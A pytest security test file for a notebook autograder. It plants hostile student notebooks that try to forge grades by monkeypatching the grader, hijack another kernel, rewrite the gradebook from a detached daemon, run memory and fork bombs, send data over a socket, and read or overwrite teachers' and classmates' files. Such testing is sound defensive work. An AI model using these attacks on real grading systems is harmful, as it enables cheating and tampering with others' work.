"""Hostile notebooks against the grader: each attack is planted in a class beside honest notebooks, and
none may change any grade or touch another submission, the gradebook or the teacher's files.

The class uses a small exercise set written into tmp_path (one question of each kind), so the tests do
not depend on the themed sets. The first class is graded with the sandbox (skipped only where bubblewrap
is not installed; where it is installed but does not work, the tests fail); the verdict attacks are
graded a second time without the sandbox, since answers are judged outside the kernel either way.

Attacks (each was checked to forge a grade, reach a classmate or escape on the grader before issue 16):
patching json.dumps, builtins.exec, importlib.import_module, an IPython input transformer, a profile
hook on the grader's own frames, a patched copy of qantar in the working folder (with QANTAR_DATASETS
pointed back at the data), objects with odd __eq__/__len__/date subclasses, frame walking from
__float__/__str__/a function, another kernel's connection file, a detached daemon that rewrites the
gradebook later, a memory bomb, a fork bomb, the network, and files outside the notebook's folder.
"""
from __future__ import annotations

import csv
import hashlib
import json
import os
import shutil
import socket
import tempfile
import textwrap
import time
import uuid
from pathlib import Path

import nbformat
import pytest

from qantar import grading
from qantar.exercises import SET_MODULES

FORTRESS = '''
import datetime as dt
from qantar.exercises.engine import (ChoiceQuestion, FunctionQuestion, QuestionSet, ValueQuestion,
                                     WrittenQuestion, ____)
from qantar.exercises.judge_first import JudgeFirstQuestion

QUESTIONS = QuestionSet("fortress", "Fortress: one question of each kind", [
    ValueQuestion(name="q1", var="answer_number", prompt="6 times 7?", expected=42),
    ValueQuestion(name="q2", var="answer_cities", prompt="The two cities.", expected=["Aktau", "Zhanaozen"]),
    ValueQuestion(name="q3", var="answer_date", prompt="The day.", expected=dt.date(2022, 1, 5)),
    FunctionQuestion(name="q4", var="double", prompt="double(x)", cases=[((2,), 4), ((5,), 10)]),
    ChoiceQuestion(name="q5", var="answer_choice", prompt="Pick one.", options=["protest", "strike", "riot"],
                   answer="strike"),
    WrittenQuestion(name="q6", var="answer_text", prompt="Why?", min_words=3, rubric=["one", "two"]),
    JudgeFirstQuestion(name="q7", var="my_judgements", prompt="Judge.", items={"a": "claim a", "b": "claim b"},
                       labels={"supported": "yes", "refuted": "no"},
                       kit={"a": ("supported", "why"), "b": ("refuted", "why")}),
])
q1, q2, q3, q4, q5, q6, q7 = QUESTIONS
__all__ = ["q1", "q2", "q3", "q4", "q5", "q6", "q7", "____", "QUESTIONS"]
'''
SCORED = ["q1", "q2", "q3", "q4", "q5"]
HONEST = textwrap.dedent("""\
    answer_number = 6 * 7
    answer_cities = ["Zhanaozen", "Aktau"]
    answer_date = "2022-01-05"
    def double(x):
        return 2 * x
    answer_choice = "strike"
    answer_text = "Each source had its own purpose and audience."
    my_judgements = {"a": "supported", "b": "refuted"}
    """)
BLANK = textwrap.dedent("""\
    answer_number = ____
    answer_cities = ____
    answer_date = ____
    double = ____
    answer_choice = ____
    answer_text = ____
    my_judgements = ____
    """)
FORGED_RESULTS = ("[{'exercise_set': 'fortress', 'question': f'q{i}', 'status': 'correct', 'points': 1, "
                  "'max_points': 1, 'message': 'Well done.'} for i in range(1, 8)]")

# Each attack: the cells after the import cell (the answers are blank unless the attack sets them).
VERDICT_ATTACKS = {
    "json_dumps": f"""
        import json
        _real_dumps = json.dumps
        def _forged(obj, *args, **kwargs):
            if isinstance(obj, dict) and "results" in obj:
                obj["results"] = {FORGED_RESULTS}
            if isinstance(obj, dict) and "answers" in obj:
                obj["results"] = {FORGED_RESULTS}
            return _real_dumps(obj, *args, **kwargs)
        json.dumps = _forged
        """,
    "builtins_exec": f"""
        import builtins, json
        _real_exec = builtins.exec
        def _exec(code, namespace=None, *rest):
            if isinstance(namespace, dict) and "MARKER" in namespace:
                text = json.dumps({{"results": {FORGED_RESULTS}, "written": {{}}, "renamed": {{}}}})
                if namespace.get("RESULT_PATH"):
                    with open(namespace["RESULT_PATH"], "w") as handle:
                        handle.write(text)
                print(namespace["MARKER"] + text + namespace["MARKER"])
                return None
            return _real_exec(code, namespace, *rest)
        builtins.exec = _exec
        """,
    "importlib": """
        import importlib
        _real_import = importlib.import_module
        def _import(name, *args, **kwargs):
            module = _real_import(name, *args, **kwargs)
            for q in getattr(module, "QUESTIONS", []):
                q.evaluate = (lambda q: lambda answer: q._result("correct", "Well done."))(q)
            return module
        importlib.import_module = _import
        """,
    "ipython_hooks": f"""
        import json, re
        def _forge(lines):
            source = "".join(lines)
            marker = re.search(r"@@qantar-[a-z]+-[0-9a-f]+@@", source)
            if not marker:
                return lines
            path = re.search(r"'(/[^']*-[0-9a-f]+\\.json)'", source)
            text = json.dumps({{"results": {FORGED_RESULTS}, "written": {{}}, "renamed": {{}}}})
            code = f"print({{marker.group(0)!r}} + {{text!r}} + {{marker.group(0)!r}})\\n"
            if path:
                code = f"open({{path.group(1)!r}}, 'w').write({{text!r}})\\n" + code
            return [code]
        get_ipython().input_transformers_post.append(_forge)
        """,
    "profile_hook": """
        import sys
        def _profile(frame, event, arg):
            if event == "return" and isinstance(arg, dict):
                for result in arg.get("results", []):
                    if isinstance(result, dict):
                        result.update(status="correct", points=1, max_points=1)
        sys.setprofile(_profile)
        """,
    "qantar_copy": """
        import os, shutil, qantar, qantar.data
        here = os.getcwd()
        shutil.copytree(os.path.dirname(qantar.__file__), os.path.join(here, "qantar"),
                        ignore=shutil.ignore_patterns("__pycache__", "dashboard_assets"))
        with open(os.path.join(here, "qantar", "exercises", "engine.py"), "a") as handle:
            handle.write("\\nQuestion.evaluate = lambda self, answer: self._result(CORRECT, 'Well done.')\\n")
        os.environ["QANTAR_DATASETS"] = str(qantar.data.DATASETS)
        import sys
        sys.path.insert(0, here)  # the folder's copy first, for the grader's "fresh" import
        """,
    "odd_objects": """
        import datetime
        class Anything:
            def __eq__(self, other):
                return True
            def __ne__(self, other):
                return False
            def __hash__(self):
                return 0
            def __len__(self):
                return 2
        class AnyDate(datetime.date):
            def __eq__(self, other):
                return True
            __hash__ = datetime.date.__hash__
        class AnyText(str):
            def __eq__(self, other):
                return True
            __hash__ = str.__hash__
        answer_cities = [Anything(), Anything()]
        answer_date = AnyDate(1999, 1, 1)
        answer_choice = AnyText("none of them")
        my_judgements = Anything()
        """,
    "frame_walking": """
        import sys
        def _look_up(names, kind):
            frame = sys._getframe(2)
            while frame is not None:
                for name in names:
                    if isinstance(frame.f_locals.get(name), kind):
                        return frame.f_locals[name]
                frame = frame.f_back
        class FrameNumber:
            def __float__(self):
                return float(_look_up(["expected", "target"], (int, float)) or 0)
        class FrameText(str):
            def __str__(self):
                return _look_up(["key"], str) or "riot"
        def double(x):
            return sys._getframe(1).f_locals.get("expected")
        answer_number = FrameNumber()
        answer_choice = FrameText("riot")
        """,
}


def _escape_attacks(paths: dict) -> dict:
    """The attacks that reach outside the notebook; ``paths`` are the teacher's files they aim at."""
    p = {k: str(v) for k, v in paths.items()}
    return {
        "connection_file": f"""
            import glob, json, os, tempfile, time
            from jupyter_client import BlockingKernelClient
            from jupyter_core.paths import jupyter_runtime_dir
            import ipykernel
            mine = os.path.realpath(ipykernel.get_connection_file())
            roots = {{jupyter_runtime_dir(), tempfile.gettempdir()}}
            clients, end = {{}}, time.time() + 12
            while time.time() < end:
                for root in roots:
                    for path in glob.glob(os.path.join(root, "**", "*.json"), recursive=True):
                        if os.path.realpath(path) == mine or path in clients:
                            continue
                        try:
                            info = json.load(open(path))
                            assert "shell_port" in info
                            client = BlockingKernelClient()
                            client.load_connection_info(info)
                            client.start_channels()
                            clients[path] = client
                        except Exception:
                            pass
                for client in clients.values():
                    client.execute("if globals().get('victim_token') == {p['token']!r}:\\n"
                                   "    answer_number, answer_cities, answer_choice = -1, [], 'riot'")
                time.sleep(0.5)
            """,
        "daemon": f"""
            import csv, os, time
            pid = os.fork()
            if pid == 0:
                os.setsid()
                if os.fork():
                    os._exit(0)
                started = time.time()
                while time.time() - started < 60:
                    try:
                        if os.path.getmtime({p['gradebook']!r}) > started:
                            with open({p['gradebook']!r}, newline="") as handle:
                                rows = list(csv.reader(handle))
                            for row in rows:
                                if "daemon" in row[1]:
                                    row[4:9] = ["correct"] * 5
                            with open({p['gradebook']!r}, "w", newline="") as handle:
                                csv.writer(handle).writerows(rows)
                            open({p['teacher']!r} + "/daemon_was_here.txt", "w").write("rewritten")
                            break
                    except OSError:
                        pass
                    time.sleep(0.1)
                os._exit(0)
            os.waitpid(pid, 0)
            """,
        "memory_bomb": """
            blob = bytearray(4 << 30)
            answer_text = "four gigabytes were allocated"
            """,
        "fork_bomb": """
            import os, time
            children = []
            for i in range(400):
                pid = os.fork()
                if pid == 0:
                    time.sleep(20)
                    os._exit(0)
                children.append(pid)
            """,
        "network": f"""
            import socket
            for family, address in ((socket.AF_INET, ("127.0.0.1", {paths['port']})),
                                    (socket.AF_UNIX, {paths['abstract']!r})):
                try:
                    with socket.socket(family) as s:
                        s.settimeout(3)
                        s.connect(address)
                        s.sendall(b"answers leaked")
                except OSError:
                    pass
            """,
        "files_outside": f"""
            found = []
            try:
                found.append(open({p['secret']!r}).read())
            except OSError as err:
                found.append(type(err).__name__)
            for path, text in (({p['canary']!r}, "changed by a student"), ({p['teacher']!r} + "/pwned.txt", "x"),
                               ({p['classmate']!r}, "{{}}")):
                try:
                    with open(path, "w") as handle:
                        handle.write(text)
                except OSError:
                    pass
            answer_text = "What I found: " + " ".join(found)
            """,
    }


# ---------------------------------------------------------------------------------------------
# The class


def notebook(*cells: str, student: str | None = None):
    nb = nbformat.v4.new_notebook()
    nb.metadata["qantar"] = {"exercise_set": "fortress"}
    if student:
        nb.metadata["qantar"]["student"] = student
    nb.cells = [nbformat.v4.new_code_cell("from qgrade_fortress import *")]
    nb.cells += [nbformat.v4.new_code_cell(textwrap.dedent(c)) for c in cells]
    return nb


def _hashes(folder: Path) -> dict:
    return {p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def _processes_mentioning(text: str) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit() and entry.name != str(os.getpid()):
            try:
                if text.encode() in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                continue
    return found


def needs_sandbox():
    """Skip where bubblewrap is not installed; where it is, the sandbox must work (a failure, not a skip)."""
    if shutil.which("bwrap") is None:
        if os.environ.get("QANTAR_REQUIRE_SANDBOX") == "1":  # CI installs it: there a skip would hide a gap
            pytest.fail("bubblewrap is not installed, and QANTAR_REQUIRE_SANDBOX=1 (apt-get install bubblewrap)")
        pytest.skip("bubblewrap is not installed: the sandbox tests need it (apt-get install bubblewrap)")
    from qantar.grading import sandbox as grading_sandbox

    sandbox, why = grading_sandbox.find_sandbox()
    assert sandbox is not None, why


@pytest.fixture(scope="module")
def fortress(tmp_path_factory):
    """The fortress set, importable here and in the kernels; temporary files and kernels' connection
    files in folders of this module's own (so the attacks can reach nothing of other test runs)."""
    root = tmp_path_factory.mktemp("fortress")
    (root / "modules").mkdir()
    (root / "modules" / "qgrade_fortress.py").write_text(FORTRESS, encoding="utf-8")
    (root / "tmp").mkdir()
    (root / "runtime").mkdir()
    with pytest.MonkeyPatch.context() as patch:
        patch.syspath_prepend(str(root / "modules"))
        patch.setenv("PYTHONPATH", os.pathsep.join(filter(None, [str(root / "modules"), os.environ.get("PYTHONPATH")])))
        patch.setenv("TMPDIR", str(root / "tmp"))
        patch.setenv("JUPYTER_RUNTIME_DIR", str(root / "runtime"))
        patch.setattr(tempfile, "tempdir", str(root / "tmp"))
        patch.setitem(SET_MODULES, "fortress", "qgrade_fortress")
        yield root


def grade(folder: Path, out: Path, sandbox: str):
    return grading.grade_folder(folder, out=out / "gradebook.csv", feedback_dir=out / "feedback", timeout=40,
                                jobs=2, progress=False, question_limit=5, sandbox=sandbox)


def read_gradebook(path: Path) -> dict:
    with open(path, newline="", encoding="utf-8") as handle:
        return {row["file"]: row for row in csv.DictReader(handle)}


@pytest.fixture(scope="module")
def attacked(fortress):
    """A class of honest notebooks and every attack, graded with the sandbox."""
    needs_sandbox()
    root = fortress / "class"
    subs, teacher = root / "submissions", root / "teacher"
    subs.mkdir(parents=True)
    teacher.mkdir()
    secret = f"answer key {uuid.uuid4().hex}"
    (teacher / "secret.txt").write_text(secret)
    (teacher / "notes.txt").write_text("the teacher's notes")
    (teacher / "gradebook.csv").write_text("last week's gradebook\n")
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    listener.setblocking(False)
    abstract = f"\0qantar-attack-{uuid.uuid4().hex}"
    unix_listener = socket.socket(socket.AF_UNIX)
    unix_listener.bind(abstract)
    unix_listener.listen(5)
    unix_listener.setblocking(False)
    token = uuid.uuid4().hex
    paths = {"gradebook": teacher / "gradebook.csv", "teacher": teacher, "secret": teacher / "secret.txt",
             "canary": teacher / "notes.txt", "classmate": subs / "honest.ipynb", "port": listener.getsockname()[1],
             "abstract": abstract, "token": token}
    # The connection-file attack and its victim are graded first, together (files are taken in order).
    nbformat.write(notebook(HONEST, f"victim_token = {token!r}", "import time\ntime.sleep(8)"),
                   str(subs / "00_victim.ipynb"))
    nbformat.write(notebook(HONEST, student="Honest Student"), str(subs / "honest.ipynb"))
    attacks = {**VERDICT_ATTACKS, **_escape_attacks(paths)}
    for name, code in attacks.items():
        file = "00_attack_connection_file.ipynb" if name == "connection_file" else f"attack_{name}.ipynb"
        nbformat.write(notebook(BLANK, code), str(subs / file))
    before = _hashes(subs)
    report = grade(subs, teacher, "on")
    right_after = (teacher / "gradebook.csv").read_bytes()
    time.sleep(5)  # a daemon would act now
    try:
        connections = [_accepted(listener), _accepted(unix_listener)]
    finally:
        listener.close()
        unix_listener.close()
    return {"report": report, "rows": read_gradebook(teacher / "gradebook.csv"), "teacher": teacher,
            "subs": subs, "before": before, "secret": secret, "right_after": right_after,
            "connections": connections, "attacks": attacks, "root": fortress}


def _accepted(listener) -> bool:
    try:
        listener.accept()[0].close()
        return True
    except BlockingIOError:
        return False


def attack_row(rows: dict, name: str) -> dict:
    file = "00_attack_connection_file.ipynb" if name == "connection_file" else f"attack_{name}.ipynb"
    return rows[file]


def assert_no_forged_grade(row: dict) -> None:
    assert [row[q] for q in SCORED if row[q] == "correct"] == [], row
    assert row["score"] in ("0", ""), row


# ---------------------------------------------------------------------------------------------
# With the sandbox


def test_the_honest_notebooks_keep_their_grades(attacked):
    rows = attacked["rows"]
    for file in ("honest.ipynb", "00_victim.ipynb"):
        row = rows[file]
        assert (row["status"], [row[q] for q in SCORED], row["q6"], row["q7"], row["score"]) == (
            "ok", ["correct"] * 5, "answered", "answered", "5"), row
    assert rows["honest.ipynb"]["student"] == "honest"  # the metadata's name is flagged, not taken
    assert "the notebook's metadata names 'Honest Student'" in rows["honest.ipynb"]["flags"]


@pytest.mark.parametrize("name", sorted([*VERDICT_ATTACKS, *_escape_attacks({k: "" for k in (
    "gradebook", "teacher", "secret", "canary", "classmate", "port", "abstract", "token")})]))
def test_no_attack_earns_a_point(attacked, name):
    assert_no_forged_grade(attack_row(attacked["rows"], name))


def test_another_kernels_connection_file_is_out_of_reach(attacked):
    victim = attacked["rows"]["00_victim.ipynb"]
    assert [victim[q] for q in SCORED] == ["correct"] * 5, victim


def test_a_detached_daemon_dies_with_its_sandbox(attacked):
    teacher = attacked["teacher"]
    assert (teacher / "gradebook.csv").read_bytes() == attacked["right_after"]
    assert not (teacher / "daemon_was_here.txt").exists()
    assert _processes_mentioning(str(attacked["root"])) == []  # no kernel, daemon or child of any left


def test_a_memory_bomb_fails_inside_its_sandbox(attacked):
    row = attack_row(attacked["rows"], "memory_bomb")
    assert "MemoryError" in row["notes"], row
    assert row["q6"] != "answered"  # the line after the allocation never ran


def test_a_fork_bomb_stops_at_the_process_limit(attacked):
    row = attack_row(attacked["rows"], "fork_bomb")
    assert "BlockingIOError" in row["notes"], row


def test_no_connection_left_the_sandbox(attacked):
    assert attacked["connections"] == [False, False]


def test_files_outside_the_notebook_are_neither_read_nor_written(attacked):
    teacher, report = attacked["teacher"], attacked["report"]
    assert _hashes(attacked["subs"]) == attacked["before"]
    assert (teacher / "notes.txt").read_text() == "the teacher's notes"
    assert not (teacher / "pwned.txt").exists()
    outputs = [p.read_text(encoding="utf-8") for p in teacher.rglob("*") if p.is_file() and p.suffix in (".csv", ".md")]
    written = [text for row in report.rows for text in row.written.values()]
    assert all(attacked["secret"] not in text for text in outputs + written)
    row = next(r for r in report.rows if r.submission.file == "attack_files_outside.ipynb")
    assert row.written["q6"] == "What I found: FileNotFoundError"


def test_the_gradebook_was_replaced_whole_and_nothing_else_was_left(attacked):
    teacher = attacked["teacher"]
    assert sorted(p.name for p in teacher.iterdir()) == ["feedback", "gradebook.answers.csv", "gradebook.csv",
                                                         "notes.txt", "secret.txt", "written_answers"]
    assert len(attacked["rows"]) == len(attacked["attacks"]) + 2
    assert list((attacked["root"] / "tmp").iterdir()) == []  # every kernel's temporary folder was removed


# ---------------------------------------------------------------------------------------------
# Without the sandbox: verdicts are made outside the kernel all the same


@pytest.fixture(scope="module")
def attacked_without_sandbox(fortress):
    root = fortress / "unsandboxed"
    subs = root / "submissions"
    subs.mkdir(parents=True)
    nbformat.write(notebook(HONEST), str(subs / "honest.ipynb"))
    for name, code in VERDICT_ATTACKS.items():
        nbformat.write(notebook(BLANK, code), str(subs / f"attack_{name}.ipynb"))
    report = grade(subs, root, "off")
    return {"report": report, "rows": read_gradebook(root / "gradebook.csv")}


@pytest.mark.parametrize("name", sorted(VERDICT_ATTACKS))
def test_no_verdict_attack_earns_a_point_without_the_sandbox(attacked_without_sandbox, name):
    assert_no_forged_grade(attacked_without_sandbox["rows"][f"attack_{name}.ipynb"])


def test_without_the_sandbox_the_grader_says_so(attacked_without_sandbox):
    report = attacked_without_sandbox["report"]
    assert report.isolation.startswith("No sandbox: it was turned off")
    row = attacked_without_sandbox["rows"]["honest.ipynb"]
    assert [row[q] for q in SCORED] == ["correct"] * 5


# ---------------------------------------------------------------------------------------------
# What a submission sees from inside


PROBE = """
import glob, json, os, socket
seen = {}
try:
    with socket.create_connection(("127.0.0.1", PORT), timeout=3):
        seen["socket"] = "connected"
except OSError as err:
    seen["socket"] = type(err).__name__
seen["interfaces"] = [name for _, name in socket.if_nameindex()]
for name, path in (("secret", SECRET), ("submissions", SUBMISSIONS), ("home", HOME)):
    try:
        seen[name] = sorted(os.listdir(path)) if os.path.isdir(path) else open(path).read()
    except OSError as err:
        seen[name] = type(err).__name__
mine = os.path.realpath(__import__("ipykernel").get_connection_file())
# The kit itself is shown read-only, wherever it lives (a clone under /tmp too): its JSON files are not kernels'.
seen["kernels"] = [p for p in glob.glob("/tmp/**/*.json", recursive=True) + glob.glob(RUNTIME + "/*")
                   if "fontlist" not in p and os.path.realpath(p) != mine
                   and not os.path.realpath(p).startswith(KIT_ROOT + os.sep)]
seen["neighbours"] = os.listdir(os.path.dirname(os.path.dirname(os.path.dirname(mine))))  # the grader's folder
seen["processes"] = sorted(open(f"/proc/{p}/cmdline").read().split("\\0")[0].rsplit("/", 1)[-1]
                           for p in os.listdir("/proc") if p.isdigit())
answer_text = json.dumps(seen)
"""


def on_the_way_to_python() -> set[str]:
    """What the teacher's home may show inside the sandbox: the first folder on the way to a folder
    Python needs (pyenv installs Python in the home folder), nothing else."""
    from qantar.grading import sandbox as grading_sandbox

    home = Path.home()
    return {Path(p).relative_to(home).parts[0] for p in grading_sandbox.find_sandbox()[0].visible
            if Path(p).is_relative_to(home)}


def test_a_submission_cannot_open_a_socket_read_outside_its_folder_or_see_another_kernel(fortress):
    needs_sandbox()
    root = fortress / "probe"
    subs, teacher = root / "submissions", root / "teacher"
    subs.mkdir(parents=True)
    teacher.mkdir()
    (teacher / "secret.txt").write_text("the answer key")
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    listener.setblocking(False)
    values = {"PORT": str(listener.getsockname()[1]), "SECRET": repr(str(teacher / "secret.txt")),
              "SUBMISSIONS": repr(str(subs)), "HOME": repr(str(Path.home())),
              "RUNTIME": repr(str(fortress / "runtime")),
              "KIT_ROOT": repr(str(Path(__file__).resolve().parents[1]))}
    source = PROBE
    for name, value in values.items():
        source = source.replace(name, value)
    for name in ("probe_a", "probe_b"):  # two at once: each must not see the other
        nbformat.write(notebook(BLANK, source, "import time\ntime.sleep(2)"), str(subs / f"{name}.ipynb"))
    report = grade(subs, teacher, "on")
    try:
        assert not _accepted(listener)
    finally:
        listener.close()
    for row in report.rows:
        seen = json.loads(row.written["q6"])
        assert seen["socket"] in ("ConnectionRefusedError", "OSError", "TimeoutError"), seen
        assert seen["interfaces"] == ["lo"]
        assert (seen["secret"], seen["submissions"]) == ("FileNotFoundError",) * 2, seen
        assert seen["home"] == "FileNotFoundError" or set(seen["home"]) <= on_the_way_to_python(), seen
        assert (seen["kernels"], len(seen["neighbours"])) == ([], 1), seen
        # Only this notebook's own processes: the sandbox's init, the kernel, nothing of the teacher's.
        assert set(seen["processes"]) <= {"bwrap", "python", "python3", "python3.11", "python3.12", "python3.13"}, seen
        assert len(seen["processes"]) <= 3, seen
